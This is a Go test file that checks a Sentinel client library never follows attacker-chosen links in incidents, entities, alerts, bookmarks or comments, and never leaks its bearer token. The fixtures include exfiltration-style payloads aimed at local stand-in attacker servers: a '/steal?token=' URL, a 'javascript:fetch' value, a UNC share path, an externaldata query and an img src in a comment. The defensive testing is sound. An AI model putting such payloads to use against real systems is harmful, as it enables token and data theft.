package sentinel_test

// Hostile-server suite, part 10: links to other hosts inside payloads (scenario 1). Incidents,
// entities, alerts, bookmarks and comments carry URLs chosen by whoever raised the alert: an
// incident's portal and provider links, a Url entity, an alert's alertLink, threat
// intelligence report links, the URLs of a mail message. Decoding, enriching and re-encoding
// them must never make a request: the bearer token only goes to the client's endpoints, and
// only for the calls made.

import (
	"context"
	"fmt"
	"net/http"
	"sort"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sentinel-go/sentinel"
)

func TestHostileLinksInPayloadsAreNeverFollowed(t *testing.T) {
	attTLS := newAttacker(t, true)
	attPlain := newAttacker(t, false)
	link := attTLS.URL + "/steal?token=s3cr3t"
	plain := attPlain.URL + "/x"

	var wl *wireLog
	env := newEnv(t, func(o *sentinel.ClientOptions) { wl = tapTransport(o) })
	ctx := context.Background()
	inc := newIncident(t, env)
	require.True(t, env.srv.ModifyIncident(inc, func(p map[string]any) {
		p["incidentUrl"] = link
		ad, _ := p["additionalData"].(map[string]any)
		if ad == nil {
			ad = map[string]any{}
			p["additionalData"] = ad
		}
		ad["providerIncidentUrl"] = plain
	}))

	entity := func(name, kind, props string) string {
		return `{"id":"` + wsPath + `/Entities/` + name + `","name":"` + name + `","type":"Microsoft.SecurityInsights/Entities","kind":"` + kind + `","properties":` + props + `}`
	}
	alert := entity("alert", "SecurityAlert", `{"alertDisplayName":"Phish","severity":"High","alertLink":"`+link+`",`+
		`"resourceIdentifiers":[{"type":"AzureResource","azureResourceId":"`+plain+`"}],"remediationSteps":["Open `+link+`"],"friendlyName":"Phish"}`)
	entities := []string{
		entity("url", "Url", `{"url":"`+link+`","friendlyName":"`+link+`"}`),
		entity("url-plain", "Url", `{"url":"`+plain+`"}`),
		entity("url-object", "Url", `{"url":{"href":"`+link+`"}}`),
		entity("url-js", "Url", `{"url":"javascript:fetch('`+link+`')"}`),
		entity("url-scheme-relative", "Url", `{"url":"`+strings.TrimPrefix(link, "https:")+`"}`),
		entity("ip", "Ip", `{"address":"127.0.0.1","threatIntelligence":[{"providerName":"x","reportLink":"`+link+`"}]}`),
		entity("mail", "MailMessage", `{"recipient":"a@contoso.com","urls":["`+link+`","`+plain+`"],"subject":"`+link+`"}`),
		entity("dns", "DnsResolution", `{"domainName":"`+strings.TrimPrefix(attTLS.URL, "https://")+`"}`),
		entity("host", "Host", `{"hostName":"h","azureID":"`+link+`","omsAgentID":"`+plain+`"}`),
		entity("file", "File", `{"directory":"\\\\`+strings.TrimPrefix(attPlain.URL, "http://")+`\\share","fileName":"x.exe"}`),
		entity("azure", "AzureResource", `{"resourceId":"`+link+`"}`),
		entity("cloud-app", "CloudApplication", `{"appName":"x","instanceName":"`+link+`"}`),
		alert,
		entity("bookmark", "Bookmark", `{"displayName":"b","query":"externaldata(x:string) ['`+link+`']","queryResult":"{\"u\":\"`+link+`\"}"}`),
		entity("unknown", "Nic", `{"link":"`+link+`"}`),
	}
	require.True(t, env.srv.Data().SetIncidentEntities(inc, []byte("["+strings.Join(entities, ",")+"]")))
	require.True(t, env.srv.Data().SetIncidentAlerts(inc, []byte("["+alert+"]")))
	require.True(t, env.srv.Data().SetIncidentBookmarks(inc, []byte("["+entities[13]+"]")))
	_, err := env.client.CreateComment(ctx, inc, `See <a href="`+link+`">the report</a> <img src="`+plain+`">`, &sentinel.CreateCommentOptions{ID: "c-1"})
	require.NoError(t, err)
	env.srv.ResetRequests()
	before := len(wl.requests())

	// Every call that reads these payloads.
	got, err := env.client.GetIncident(ctx, inc, nil)
	require.NoError(t, err)
	assert.Equal(t, link, got.URL)
	assert.Equal(t, plain, got.AdditionalData.ProviderIncidentURL)
	listed, err := env.client.ListIncidents(nil).Collect(ctx, 0)
	require.NoError(t, err)
	require.Len(t, listed, 1)
	ents, err := env.client.ListEntities(inc, nil).Collect(ctx, 0)
	require.NoError(t, err)
	require.Len(t, ents, len(entities))
	enriched, err := env.client.GetEnrichedEntities(ctx, inc, nil)
	require.NoError(t, err)
	alerts, err := env.client.ListAlerts(inc, nil).Collect(ctx, 0)
	require.NoError(t, err)
	require.Len(t, alerts, 1)
	assert.Equal(t, link, alerts[0].AlertLink)
	bookmarks, err := env.client.ListIncidentBookmarks(inc, nil).Collect(ctx, 0)
	require.NoError(t, err)
	require.Len(t, bookmarks, 1)
	comments, err := env.client.ListComments(inc, nil).Collect(ctx, 0)
	require.NoError(t, err)
	require.Len(t, comments, 1)
	details, err := env.client.GetIncidentDetails(ctx, inc, nil)
	require.NoError(t, err)
	assert.Len(t, details.Enriched, len(enriched))

	// What callers do with them next: parse, enrich, re-encode, decode again.
	for _, u := range sentinel.EntitiesOf[*sentinel.URLEntity](ents) {
		parsed, err := u.Parse()
		if u.Name == "url" {
			require.NoError(t, err)
			assert.Equal(t, strings.TrimPrefix(attTLS.URL, "https://"), parsed.Host)
		}
	}
	for _, e := range ents {
		b, err := sentinel.MarshalJSON(e)
		require.NoError(t, err)
		again, err := sentinel.UnmarshalEntity(b)
		require.NoError(t, err)
		assert.Equal(t, e, again)
	}
	enrichedAgain := sentinel.EnrichEntities(append(append([]sentinel.Entity{}, ents...), &alerts[0], &bookmarks[0]))
	urls := map[string]bool{}
	for _, e := range append(enriched, enrichedAgain...) {
		if e.Kind == sentinel.EntityKindURL {
			urls[e.Fields[sentinel.FieldURL]] = true
		}
	}
	assert.True(t, urls[link], "the link is kept as data: %v", urls)
	_, err = sentinel.MarshalJSON(got)
	require.NoError(t, err)
	_, err = sentinel.MarshalJSON(details)
	require.NoError(t, err)

	// Nothing reached the attackers; the emulator saw exactly the calls made.
	assert.Zero(t, attTLS.hits.Load()+attPlain.hits.Load(), "an attacker server was contacted")
	for _, r := range wl.requests()[before:] {
		assert.Equal(t, env.srv.URL(), origin(r.URL), "a request left for %s %s", r.Method, r.URL)
	}
	base := "/arm" + wsPath + "/incidents"
	want := []string{
		"GET " + base + "/" + inc,
		"GET " + base,
		"POST " + base + "/" + inc + "/entities",
		"POST " + base + "/" + inc + "/entities",
		"POST " + base + "/" + inc + "/alerts",
		"POST " + base + "/" + inc + "/bookmarks",
		"GET " + base + "/" + inc + "/comments",
		// GetIncidentDetails, concurrently.
		"GET " + base + "/" + inc,
		"POST " + base + "/" + inc + "/alerts",
		"POST " + base + "/" + inc + "/entities",
		"GET " + base + "/" + inc + "/comments",
	}
	var sent []string
	for _, r := range env.srv.Requests() {
		sent = append(sent, r.Method+" "+r.Path)
		assert.True(t, r.Authorized)
	}
	sort.Strings(want)
	sort.Strings(sent)
	assert.Equal(t, want, sent)
	assert.Len(t, wl.requests()[before:], len(want), "no request other than the emulator's")
	t.Logf("%d requests, %d URL entities enriched", len(sent), len(urls))
}

// TestHostileLinksInPayloadsNotFollowedByDecodersAlone: the decoders and enrichment on their
// own, outside any client call, with the process's default HTTP client replaced by one that
// fails the test: nothing in them may reach for the network.
func TestHostileLinksInPayloadsNotFollowedByDecodersAlone(t *testing.T) {
	att := newAttacker(t, false)
	old := http.DefaultTransport
	http.DefaultTransport = roundTripFunc(func(r *http.Request) (*http.Response, error) {
		t.Errorf("a request was made to %s", r.URL)
		return nil, fmt.Errorf("no requests here")
	})
	defer func() { http.DefaultTransport = old }()

	link := att.URL + "/x"
	raw := `{"kind":"Url","properties":{"url":"` + link + `"}}`
	e, err := sentinel.UnmarshalEntity([]byte(raw))
	require.NoError(t, err)
	var a sentinel.SecurityAlert
	require.NoError(t, sentinel.UnmarshalJSON([]byte(`{"kind":"SecurityAlert","properties":{"alertLink":"`+link+`"}}`), &a))
	var ie sentinel.IncidentEntities
	require.NoError(t, sentinel.UnmarshalJSON([]byte(`{"entities":[`+raw+`]}`), &ie))
	var inc sentinel.Incident
	require.NoError(t, sentinel.UnmarshalJSON([]byte(`{"name":"i","properties":{"incidentUrl":"`+link+`","additionalData":{"providerIncidentUrl":"`+link+`"}}}`), &inc))
	enriched := sentinel.EnrichEntities([]sentinel.Entity{e, &a, ie.Entities[0]})
	require.NotEmpty(t, enriched)
	assert.Equal(t, link, a.AlertLink)
	assert.Equal(t, link, inc.URL)
	assert.Zero(t, att.hits.Load())
}

type roundTripFunc func(*http.Request) (*http.Response, error)

func (f roundTripFunc) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }
